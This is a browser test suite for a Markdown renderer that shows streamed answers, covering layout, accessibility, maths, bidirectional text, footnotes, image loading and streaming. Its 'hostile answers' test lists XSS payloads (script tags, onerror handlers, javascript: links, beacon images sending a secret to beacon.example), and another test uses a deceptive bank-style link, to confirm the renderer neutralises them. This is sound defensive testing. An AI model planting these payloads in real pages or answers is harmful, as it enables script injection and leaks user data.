import type { ReactNode } from "react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { page } from "vitest/browser";

import { render } from "#app/test-support/render.ts";
import type { Block } from "#domain/markdown/nodes.ts";

import "#ui/styles/fonts.css";
import "#ui/styles/tokens.css";
import "#ui/styles/base.css";

import { err, ok } from "#domain/result.ts";

import { BlockList } from "./block-view.tsx";
import type { MarkdownSource } from "./feed.ts";
import type { LoadImage } from "./image-card.tsx";
import { Markdown, StreamingMarkdown } from "./markdown.tsx";

let host: HTMLElement;
afterEach(() => {
  delete document.documentElement.dataset["theme"];
});

async function show(element: ReactNode): Promise<void> {
  host = await render(element);
}

/** A source that a test writes to. */
class Typewriter implements MarkdownSource {
  done = false;
  readonly #listeners = new Set<() => void>();
  #text = "";

  getText = (): string => this.#text;

  subscribe = (listener: () => void): (() => void) => {
    this.#listeners.add(listener);
    return () => this.#listeners.delete(listener);
  };

  write(text: string, done = false): void {
    this.#text += text;
    this.done = done;
    for (const listener of this.#listeners) listener();
  }
}

const answer = `# Moving without dual writes

Yes: let the old database stay the only writer, and make Postgres a *replica that you can promote*. You give up one thing, going back after the promotion **without losing the writes** made since, and you can buy that back for an hour with a reverse stream. See [the manual](https://www.postgresql.org/docs/current/logical-replication.html) or https://example.com/notes, but not [your-bank.example](https://evil.example/login).

## What it costs you

- Lag: plan for seconds, alert at ten. The ledger's own sequence number tells you the truth, not the clock.
- One freeze of about forty seconds while the last rows drain.
  - nested, with \`inline code\` in it
  - and ~~struck~~ text

\`\`\`sql
-- the newest row that both sides agree on
select max(seq) from ledger where checksum = replica_checksum and amount > 40.5 and note = 'done';
\`\`\`

### In order

1. Copy the tables, smallest first
2. Follow the log
   with a second line
3. Promote

- [x] rehearsed
- [ ] announced

> A quote keeps its distance.
>
> - and may hold a list

| step | who | minutes |
|------|:---:|--------:|
| copy | night shift | 40 |
| freeze | \`ops\` | 1 |

The lag is $\\Delta t = t_1 - t_0$ and costs $5 or $10 a day; in the long run

$$
L = \\sum_{i=1}^{n} \\frac{w_i}{\\sqrt{1 + r_i^2}}
$$

![A chart](https://charts.example/lag.png)

<details>raw html is text</details>

---

\`\`\`ts
export async function promote(replica: Replica): Promise<Result> {
  const lag = await replica.lag(); // milliseconds
  if (lag > 10_000) return { ok: false, error: \`too far behind: \${lag}\` };
  return replica.promote({ force: false, timeout: 30_000 });
}
\`\`\`
`;

describe("the appearance", () => {
  const views = ["light", "dark"].flatMap((theme) =>
    [760, 380].map((width) => [theme, width] as const),
  );
  it.each(views)(
    "shows a rich answer in %s at %i px, nothing wider than the page",
    async (theme, width) => {
      document.documentElement.dataset["theme"] = theme;
      await page.viewport(width, 2_000);
      const style = { padding: 28, height: 2_000, overflow: "auto" };
      await show(
        <div style={style}>
          <Markdown text={answer} />
        </div>,
      );
      await expect.poll(() => host.querySelectorAll("math").length).toBe(2);
      await expect.poll(() => host.querySelectorAll("pre span").length).toBeGreaterThan(5);
      await document.fonts.ready;
      await page.screenshot({ path: `../../../test-results/markdown-${theme}-${width}.png` });
      expect(host.firstElementChild?.scrollWidth).toBeLessThanOrEqual(width);
    },
  );
});

describe("what it renders", () => {
  it("gives names and structures that assistive technology understands", async () => {
    await show(<Markdown text={answer} />);
    await expect.element(page.getByRole("heading", { name: "What it costs you" })).toBeVisible();
    await expect.element(page.getByRole("group", { name: "Code, sql" })).toBeVisible();
    await expect.element(page.getByRole("table")).toBeVisible();
    await expect.element(page.getByRole("checkbox", { name: "Done" })).toBeChecked();
    await expect.element(page.getByRole("checkbox", { name: "To do" })).not.toBeChecked();
    expect(page.getByRole("button", { name: "Code to clipboard" }).elements()).toHaveLength(2);
  });

  it("keeps code whole when it is selected", async () => {
    const code = Array.from({ length: 200 }, (_, line) => `line ${line} of the code`).join("\n");
    const source = new Typewriter();
    source.write(`\`\`\`\n${code}`);
    await show(<StreamingMarkdown source={source} />);
    const block = host.querySelector("pre");
    expect(host.querySelectorAll("pre span").length).toBeGreaterThan(1);
    getSelection()?.selectAllChildren(block ?? host);
    expect(getSelection()?.toString().trim()).toBe(code);
    expect(block?.textContent).toBe(code);
  });

  it("wraps a block's long lines on demand, whatever the page does with others", async () => {
    await show(<Markdown text={"```js\nlet a;\n```\n\n```js\nlet b;\n```"} />);
    const [first, second] = host.querySelectorAll("pre");
    const lines = (block: Element | undefined) => block && getComputedStyle(block).whiteSpace;
    const button = page.getByRole("button", { name: "Wrap lines" }).first();
    await button.click();
    await expect.element(button).toHaveAttribute("aria-pressed", "true");
    expect([lines(first), lines(second)]).toEqual(["pre-wrap", "pre"]);
    document.documentElement.dataset["codeLines"] = "wrap";
    await button.click();
    expect([lines(first), lines(second)]).toEqual(["pre", "pre-wrap"]);
    delete document.documentElement.dataset["codeLines"];
  });

  it("shows a file that only another app has by its label, with a note instead of a link", async () => {
    const text = "Done. [Download artifact](sandbox:/mnt/data/result.zip)";
    await show(<Markdown text={text} />);
    await expect.poll(() => host.textContent).toBe("Done. Download artifact (file not included)");
    expect(host.querySelector("a")).toBeNull();
  });

  it("shows where links go, and more prominently if their text says otherwise", async () => {
    await show(<Markdown text={answer} />);
    const manual = page.getByRole("link", { name: "the manual" }).element();
    expect(manual.getAttribute("title")).toBe(
      "https://www.postgresql.org/docs/current/logical-replication.html",
    );
    expect(manual.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(manual.getAttribute("target")).toBe("_blank");
    await expect
      .element(page.getByRole("link", { name: "your-bank.example (evil.example)" }))
      .toBeVisible();
    await expect
      .element(page.getByRole("link", { name: "https://example.com/notes", exact: true }))
      .toBeVisible();
  });

  it("renders formulas in a maths font, with stretchy brackets and separate rows", async () => {
    const tall = "\\left( \\begin{matrix} a \\\\ b \\\\ c \\\\ d \\end{matrix} \\right)";
    await show(<Markdown text={`$$${tall}$$`} />);
    await expect.poll(() => host.querySelectorAll("math").length).toBe(1);
    expect([...document.fonts].map(({ family }) => family.replaceAll('"', ""))).toContain(
      "STIX Two Math",
    );
    await document.fonts.load('1em "STIX Two Math"');
    const heightOf = (selector: string) =>
      host.querySelector(selector)?.getBoundingClientRect().height ?? 0;
    const row = heightOf("mtr");
    expect(row).toBeGreaterThan(1.5 * heightOf("mi"));
    expect(heightOf("mtable")).toBeGreaterThan(3.9 * row);
    await expect.poll(() => heightOf("mo")).toBeGreaterThan(3.5 * row);
  });

  it("gives each block its own direction, including list markers, quote bars and tables", async () => {
    const text = [
      "שלום, world!",
      "1. אחד\n2. two",
      "> ציטוט",
      "| שם | n |\n|---|--:|\n| Latin | 1 |",
      "```\nשלום = 1\n```",
      "42",
      "Back to English.",
    ].join("\n\n");
    await show(<Markdown text={text} />);
    const blocks = [...(host.querySelector("p")?.parentElement?.children ?? [])];
    expect(blocks.map((block) => getComputedStyle(block).direction)).toEqual(
      "rtl rtl rtl rtl ltr rtl ltr".split(" "),
    );
    const styleOf = (selector: string) => {
      const found = host.querySelector(selector);
      if (found === null) throw new Error(`no ${selector}`);
      return getComputedStyle(found);
    };
    expect(styleOf("ol").paddingRight).not.toBe("0px");
    expect(styleOf("ol").paddingLeft).toBe("0px");
    expect(styleOf("li:last-child > p").textAlign).toBe("right");
    expect(styleOf("li:last-child > p").direction).toBe("ltr");
    expect(styleOf("blockquote").borderRightWidth).not.toBe("0px");
    expect(styleOf("tbody td").textAlign).toBe("right");
    expect(styleOf("tbody td:last-child").textAlign).toBe("left");
    // The visible effect: the first letter is at the right edge.
    const range = document.createRange();
    const [first] = host.querySelector("p")?.childNodes ?? [];
    if (first === undefined) throw new Error("no text");
    range.setStart(first, 0);
    range.setEnd(first, 1);
    const edge = host.querySelector("p")?.getBoundingClientRect().right ?? 0;
    expect(edge - range.getBoundingClientRect().right).toBeLessThan(2);
  });

  it("never moves a block from one side to the other while it streams", async () => {
    const source = new Typewriter();
    const seen = new Set<string>();
    await show(<StreamingMarkdown source={source} />);
    for (const piece of ["שלום\n\n", "1", ". ", "«", "`x` ", "אחד", " and Latin\n2", ". two\n"]) {
      source.write(piece);
      await new Promise(requestAnimationFrame);
      const block = host.querySelector("ol, p + p");
      if (block !== null) seen.add(getComputedStyle(block).direction);
    }
    await expect.poll(() => host.querySelectorAll("li").length).toBe(2);
    expect([...seen]).toEqual(["rtl"]);
  });

  it("leaves an unreadable formula as written", async () => {
    await show(<Markdown text={"Here $\\notacommand{x}$ and $x^2$."} />);
    await expect.poll(() => host.querySelectorAll("math").length).toBe(1);
    expect(host.textContent).toContain("$\\notacommand{x}$");
  });

  it("leaves a formula that refers to another as written", async () => {
    await show(
      <Markdown text={"$$x^2\\tag{1}\\label{one}$$\n\nAs $\\eqref{one}$ and $\\ref{one}$ say."} />,
    );
    await expect.poll(() => host.querySelectorAll("math").length).toBe(1);
    expect(host.textContent).toContain("As $\\eqref{one}$ and $\\ref{one}$ say.");
    expect(host.querySelectorAll("a")).toHaveLength(0);
  });
});

describe("footnotes", () => {
  it("are reached by their number, within their own text, and lead back", async () => {
    const text = "So it is.[^a]\n\n[^a]: As seen.";
    await show(
      <>
        <Markdown text={text} />
        <Markdown text={text} />
      </>,
    );
    const mark = page.getByRole("button", { name: "Footnote 1", exact: true }).nth(1);
    const back = page.getByRole("button", { name: "Footnote 1: back to the text" }).nth(1);
    await mark.click();
    await expect.element(back).toHaveFocus();
    await back.click();
    await expect.element(mark).toHaveFocus();
    expect(host.textContent).not.toContain("[^");
  });

  it("are numbers once all of a stream is known", async () => {
    const source = new Typewriter();
    await show(<StreamingMarkdown source={source} />);
    for (const piece of ["So[^1].\n\nThen.", "\n\n[^1]: As s", "een.\n"]) {
      source.write(piece);
      await new Promise(requestAnimationFrame);
    }
    source.write("", true);
    await expect
      .element(page.getByRole("button", { name: "Footnote 1", exact: true }))
      .toBeVisible();
  });
});

describe("hostile answers", () => {
  const attacks = [
    "<script>window.attacked = true</script>",
    '<img src=x onerror="window.attacked = true">',
    "[press](javascript:window.attacked=true)",
    "[press](data:text/html,<script>window.attacked=true</script>)",
    '<a href="javascript:window.attacked=true">press</a>',
    "![beacon](https://beacon.example/?q=secret)",
    "[![beacon](https://beacon.example/in-link)](https://a.example)",
    "$\\includegraphics{https://beacon.example/math.png}$",
    "$\\href{javascript:window.attacked=true}{x}$",
    "$\\url{javascript:window.attacked=true}$",
    '<link rel="preload" as="image" href="https://beacon.example/preload">',
    '<svg onload="window.attacked = true">',
    "<style>@import url(https://beacon.example/style)</style>",
    "```html\n<img src=x onerror=window.attacked=true>\n```",
    '![x](https://beacon.example/a.png "title")',
    "[ref]: javascript:window.attacked=true\n\n[press][ref]",
  ].join("\n\n");

  it("run nothing, load nothing, and link nowhere unsafe", async () => {
    performance.clearResourceTimings();
    await show(<Markdown text={attacks} />);
    await expect.poll(() => host.querySelectorAll("pre span").length).toBeGreaterThan(0);
    expect(host.querySelector("script, img, iframe, style, link, object, svg[onload]")).toBeNull();
    for (const link of host.querySelectorAll("a"))
      expect(link.protocol).toMatch(/^(?:https?|mailto):$/u);
    for (const element of host.querySelectorAll("*")) {
      const handlers = element.getAttributeNames().filter((name) => name.startsWith("on"));
      expect(handlers).toEqual([]);
    }
    const requested = performance
      .getEntriesByType("resource")
      .map(({ name }) => new URL(name).host);
    expect(requested.filter((name) => name.endsWith("beacon.example"))).toEqual([]);
    expect(Reflect.get(globalThis, "attacked")).toBeUndefined();
  });
});

describe("images", () => {
  it("load only when requested, through the callback, and free their blob", async () => {
    const revoke = vi.spyOn(URL, "revokeObjectURL");
    const pixel =
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    const bytes = Uint8Array.from(atob(pixel), (character) => character.charCodeAt(0));
    const blobUrl = URL.createObjectURL(new Blob([bytes], { type: "image/png" }));
    const loadImage = vi.fn<LoadImage>(async () => ok({ blobUrl }));
    await show(
      <Markdown text="![A chart](https://charts.example/lag.png)" loadImage={loadImage} />,
    );
    await expect.element(page.getByText("Image at charts.example, not loaded")).toBeVisible();
    expect(loadImage).not.toHaveBeenCalled();
    await page.getByRole("button", { name: "Load image" }).click();
    await expect.element(page.getByRole("img", { name: "A chart" })).toBeInTheDocument();
    expect(loadImage.mock.calls).toEqual([
      ["https://charts.example/lag.png", expect.any(AbortSignal)],
    ]);
    await render(null);
    await expect.poll(() => revoke.mock.calls.flat()).toContain(blobUrl);
    revoke.mockRestore();
  });

  it("are cancelled and freed if they arrive after their card is gone", async () => {
    const revoke = vi.spyOn(URL, "revokeObjectURL");
    const blobUrl = URL.createObjectURL(new Blob(["late"], { type: "image/png" }));
    let arrive = () => {};
    const coming = new Promise<void>((resolve) => (arrive = resolve));
    const loadImage = vi.fn<LoadImage>(async () => {
      await coming;
      return ok({ blobUrl });
    });
    await show(
      <Markdown text="![A chart](https://charts.example/lag.png)" loadImage={loadImage} />,
    );
    await page.getByRole("button", { name: "Load image" }).click();
    await expect.element(page.getByRole("button", { name: "Loading…" })).toBeDisabled();
    await render(null);
    await expect.poll(() => loadImage.mock.calls[0]?.[1].aborted).toBe(true);
    arrive();
    await expect.poll(() => revoke.mock.calls.flat()).toContain(blobUrl);
    revoke.mockRestore();
  });

  it("show an error and offer a new tab when they fail", async () => {
    const loadImage = async () => err({ message: "charts.example refused" });
    await show(
      <Markdown text="![A chart](https://charts.example/lag.png)" loadImage={loadImage} />,
    );
    await page.getByRole("button", { name: "Load image" }).click();
    await expect.element(page.getByText("charts.example refused")).toBeVisible();
    const link = page.getByRole("link", { name: "Open in a new tab" }).element();
    expect(link.getAttribute("href")).toBe("https://charts.example/lag.png");
  });
});

describe("a stream", () => {
  it("never touches finished content, and ends as the whole text does", async () => {
    const source = new Typewriter();
    source.write("# Title\n\nFirst paragraph.\n\n- one\n- two\n\nThe last one");
    await show(<StreamingMarkdown source={source} />);
    const sheet = host.firstElementChild;
    const finished = [...(sheet?.children ?? [])].slice(0, -1);
    expect(finished).toHaveLength(3);
    const touched: Node[] = [];
    const observer = new MutationObserver((records) =>
      touched.push(...records.map((one) => one.target)),
    );
    for (const element of finished) {
      observer.observe(element, {
        subtree: true,
        childList: true,
        characterData: true,
        attributes: true,
      });
    }
    for (let word = 0; word < 20; word += 1) {
      source.write(" goes on,");
      const written = source.getText().length;
      await expect.poll(() => host.textContent.length).toBeGreaterThan(written - 30);
    }
    source.write(" and ends.\n", true);
    await expect.poll(() => host.textContent).toContain("and ends.");
    expect(touched).toEqual([]);
    for (const [index, element] of finished.entries()) expect(sheet?.children[index]).toBe(element);
    const streamed = host.innerHTML;
    await render(<Markdown text={source.getText()} />);
    await expect.poll(() => host.innerHTML).toBe(streamed);
  });

  it("shows an answer that is opened anew, when the one before it ended without a text", async () => {
    const [first, second] = [new Typewriter(), new Typewriter()];
    await show(<StreamingMarkdown source={first} />);
    first.write("", true);
    await new Promise(requestAnimationFrame);
    await show(<StreamingMarkdown source={second} />);
    second.write("It goes on.");
    await expect.poll(() => host.textContent).toBe("It goes on.");
  });

  it("shows an open fence as text and highlights it once closed", async () => {
    const source = new Typewriter();
    source.write("```ts\nconst answer = 42;\n");
    await show(<StreamingMarkdown source={source} />);
    await expect
      .element(page.getByRole("group", { name: "Code, ts" }))
      .toHaveTextContent("const answer = 42;");
    expect(host.querySelector("pre [class*=keyword]")).toBeNull();
    source.write("```\n");
    await expect.poll(() => host.querySelector("pre [class*=keyword]")?.textContent).toBe("const");
  });

  it("renders a frozen block once, however often text arrives", async () => {
    let drawn = 0;
    let atFirst = 0;
    const frozen: Block = {
      get kind() {
        drawn += 1;
        return "rule" as const;
      },
    };
    for (let length = 1; length <= 10; length += 1) {
      const open: Block = {
        kind: "paragraph",
        groups: [[{ kind: "text", text: "x".repeat(length) }]],
      };
      await show(<BlockList blocks={[frozen, open]} />);
      await expect.poll(() => host.textContent).toBe("x".repeat(length));
      if (length === 1) atFirst = drawn;
    }
    // Read once for its direction and once for rendering.
    expect(atFirst).toBe(2);
    expect(drawn).toBe(atFirst);
  });
});
